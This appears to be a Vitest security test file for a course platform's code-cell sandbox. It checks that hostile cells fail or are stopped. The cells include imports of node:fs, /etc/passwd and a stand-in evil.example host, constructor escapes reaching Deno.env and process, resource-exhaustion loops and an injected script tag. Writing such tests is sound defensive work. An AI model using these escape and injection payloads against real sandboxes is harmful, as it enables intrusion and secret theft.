/** Cells that attack the gate in which they run, and whoever reads what they leave behind. */
import { describe, expect, test } from "vitest";
import { parseLecture } from "../../../server/course/lecture-text.ts";
import { runCells } from "../../../server/gate/cells.ts";
import { TINY_COURSE } from "../../tiny-course.ts";
import { gateProblems, LECTURE } from "./attacked-course.ts";

const MDX = `${LECTURE}/lecture.mdx`;
const withCells = (...sources: string[]) => {
  const cells = sources.map((source, n) => `\`\`\`ts cell id=cell-${n}\n${source}\n\`\`\`\n`);
  return `${TINY_COURSE[MDX]?.replace(/```ts cell[\s\S]*?```/, "")}\n${cells.join("\n")}`;
};

/** What each cell leaves, as JSON; why the run ended early. */
async function left(sources: readonly string[], msMax?: number) {
  const { document } = await parseLecture(withCells(...sources), "lecture.mdx");
  const { runs, stopped } = await runCells(document, () => [], msMax);
  return { texts: runs.map(({ outputs }) => JSON.stringify(outputs)), stopped };
}

describe("a cell reaches nothing of the machine that the gate runs on", () => {
  const NAMES = ["Deno", "process", "require", "fetch", "WebSocket", "Worker", "WebAssembly"];

  test("no name of the host is there, by no way to the global object", async () => {
    const ways = ["globalThis", "Function('return this')()", "(0, eval)('this')"];
    const found = `[${ways.join()}].filter(Boolean).flatMap((all) => ${JSON.stringify(NAMES)}.filter((name) => name in all)).join() || "nothing"`;
    const typed = NAMES.map((name) => `typeof ${name}`).join();
    const { texts } = await left([found, `[${typed}].filter((one) => one !== "undefined").length`]);
    expect(texts[0]).toMatch(/"text.plain":"..nothing/);
    expect(texts[1]).toContain('"0"');
  });

  test.each([
    { name: "an import of a module of the host", source: 'await import("node:fs")' },
    { name: "an import of a file", source: 'await import("file:///etc/passwd")' },
    { name: "an import from elsewhere", source: 'await import("https://evil.example/a.js")' },
    {
      name: "an import statement",
      source: 'import { readFileSync } from "node:fs";\nreadFileSync',
    },
    {
      name: "the constructor of a function of the host",
      source: 'console.log.constructor("return Deno.env.toObject()")()',
    },
    {
      name: "the constructor of what the simulator answers",
      source: 'boot.constructor.constructor("return process")()',
    },
  ])("$name ends in an error", async ({ source }) => {
    const { texts } = await left([source]);
    expect(texts[0]).toContain('"kind":"error"');
  });

  test("what a cell changes of the language is not there for the gate's own answers", async () => {
    const { texts } = await left([
      "try { JSON.stringify = () => '[]'; } catch {}\ntry { Array.prototype.push = () => 0; } catch {}\n1",
      "2",
    ]);
    expect(texts[1]).toContain('"text/plain":"2"');
  });
});

describe("a cell that takes too much is ended, and said to be the one", () => {
  test.each([
    { name: "a loop", source: "for (;;);", stopped: "time" },
    {
      name: "a loop of microtasks",
      source: "const again = () => Promise.resolve().then(again);\nawait again();",
      // Each promise waits for the next one: memory that no collector gives back.
      stopped: "end",
    },
    {
      name: "memory",
      source: "const all = [];\nfor (;;) all.push(new Array(1e5).fill(all.length));",
      stopped: "end",
    },
    {
      name: "a text that the compiler tries over and over",
      source: `x = ${"<T>(".repeat(40)}`,
      stopped: "time",
    },
  ] as const)("$name", async ({ source, stopped }) => {
    const answer = await left(["1", source, "3"], 15_000);
    expect(answer.texts).toHaveLength(1);
    // On a busy machine the time may be over before the memory.
    expect([stopped, "time"]).toContain(answer.stopped);
  });

  test("buffers are refused once there is no more, and what comes after still runs", async () => {
    const source = "const all = [];\nfor (;;) all.push(new Uint8Array(2 ** 26).fill(1));";
    const { texts, stopped } = await left([source], 30_000);
    expect(stopped ?? texts[0]).toMatch(/^(?:end|time)$|"kind":"error","name":"RangeError"/);
  });

  test("a promise that nobody keeps ends its cell, not the others", async () => {
    const { texts } = await left(["await new Promise(() => {})", "2"], 20_000);
    expect(texts.at(-1)).toMatch(/"kind":"error"|"text\/plain":"2"/);
  });

  test("many cells that each leave what one may leave", async () => {
    const sources = Array.from({ length: 60 }, () => 'console.log("a".repeat(2 ** 17))');
    const { texts, stopped } = await left(sources);
    expect(stopped).toBe("outputs");
    expect(texts.join("").length).toBeLessThan(2 ** 22);
  });
});

test("outputs that no cell has left are refused, and so is a cell that hides an error", async () => {
  const forged = TINY_COURSE[`${LECTURE}/outputs.json`]?.replace(
    '{"text/plain":"2"}',
    '{"text/plain":"2","text/html":"<script>alert(1)</script>"}',
  );
  expect(await gateProblems({ [`${LECTURE}/outputs.json`]: forged }, [LECTURE])).toEqual([
    expect.stringMatching(/outputs\.json:2: cell one-and-one leaves something else than is stored/),
  ]);
  const later = withCells("void Promise.reject(new Error('late'));\n1");
  expect(await gateProblems({ [MDX]: later }, [LECTURE])).toContainEqual(
    expect.stringMatching(/lecture\.mdx:\d+: cell cell-0 fails: Error: late/),
  );
});

test("a cell may bear a name that every object has", async () => {
  const text = TINY_COURSE[MDX]?.replace("id=one-and-one", "id=constructor");
  const outputs = TINY_COURSE[`${LECTURE}/outputs.json`]?.replace("one-and-one", "constructor");
  const named = { [MDX]: text, [`${LECTURE}/outputs.json`]: outputs };
  expect(await gateProblems(named, [LECTURE])).toEqual([]);
  expect(await gateProblems({ [MDX]: text }, [LECTURE])).toContainEqual(
    expect.stringMatching(/outputs\.json:1: cell constructor leaves something else/),
  );
});
